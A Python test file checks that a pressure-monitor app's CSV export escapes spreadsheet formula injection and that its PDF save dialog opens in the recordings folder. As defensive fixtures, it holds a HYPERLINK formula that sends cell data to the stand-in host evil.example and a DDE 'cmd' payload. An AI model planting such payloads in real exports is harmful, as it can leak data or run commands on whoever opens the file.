"""The PPT CSV opens safely in a spreadsheet: whatever a client's pseudonym, a site's name
or the context holds, no cell can run as a formula; numbers stay numbers."""

from __future__ import annotations

import csv
from pathlib import Path

import pytest
from test_ppt_tab import CONTEXT, make_tab, measure, set_up

from monitor.ui.ppt_tab import PptTab

FORMULA_STARTS = ("=", "+", "-", "@", "\t", "\r")
HYPERLINK = '=HYPERLINK("http://evil.example/?"&A1,"Click for results")'


def cells(path: Path) -> list[list[str]]:
    """Every cell a spreadsheet would make of the file, comment lines too (it splits them at
    commas as well, and reads quoted parts as one cell)."""
    with open(path, newline="", encoding="utf-8") as file:
        return list(csv.reader(file))


def runs_as_formula(cell: str) -> bool:
    return cell.lstrip(" ").startswith(FORMULA_STARTS)


def exported(qtbot, tmp_path: Path, context: dict[str, str], site: str) -> tuple[Path, PptTab]:
    tab, _, _ = make_tab(qtbot, context=context)
    tab.setup.site_list.item(0).setText(site)
    set_up(tab, trials=2)
    assert tab.start()
    measure(tab, measure(tab, 0.0, 300), 340)
    path = tmp_path / "ppt.csv"
    tab.export_csv(path)
    return path, tab


def test_a_pseudonym_that_is_a_formula_stays_text(qtbot, tmp_path: Path) -> None:
    context = CONTEXT | {
        "client": HYPERLINK,
        "examiner": "E-1, =1+1",
        "calibration": "lab,\"=cmd|' /C calc'!A0\"",
        "device": "@SUM(A1:A9)",
    }
    path, tab = exported(qtbot, tmp_path, context, site="-2+3 Upper trapezius")
    table = cells(path)
    formulas = [cell for row in table for cell in row if runs_as_formula(cell)]
    assert formulas == []
    text = path.read_text(encoding="utf-8")
    assert "# client: =HYPERLINK('http://evil.example/?'&A1,'Click for results')" in text
    assert "# examiner: E-1, '=1+1" in text
    header = next(row for row in table if row and row[0] == "site")
    first = table[table.index(header) + 1]
    row = dict(zip(header, first, strict=True))
    assert row["site"] == "'-2+3 Upper trapezius"
    result = tab.rows[0].result  # numbers, not text
    assert float(row["trial_1_kpa"]) == pytest.approx(result.thresholds_kpa[0], abs=0.05)
    assert float(row["mean_kpa"]) == pytest.approx(result.mean_kpa, abs=0.05)


def test_the_save_dialog_opens_in_the_recordings_folder_before_any_recording(
    qtbot, tmp_path: Path, monkeypatch
) -> None:
    """No recording has made the folder yet: the dialog would open wherever the app was
    started, and the report land there."""
    folder = tmp_path / "home" / "Pressure Monitor"
    tab, _, _ = make_tab(qtbot, save_dir=folder)
    set_up(tab, trials=1)
    assert tab.start()
    measure(tab, 0.0, 300)
    offered = []

    def dialog(parent, caption, where, kinds):
        offered.append(Path(where))
        return "", ""  # cancelled

    monkeypatch.setattr("monitor.ui.ppt_tab.QFileDialog.getSaveFileName", dialog)
    tab.results.pdf_button.click()
    assert offered[0].parent == folder and folder.is_dir()
    assert offered[0].name == "ppt-C-0042-2026-12-02_10_30.pdf"
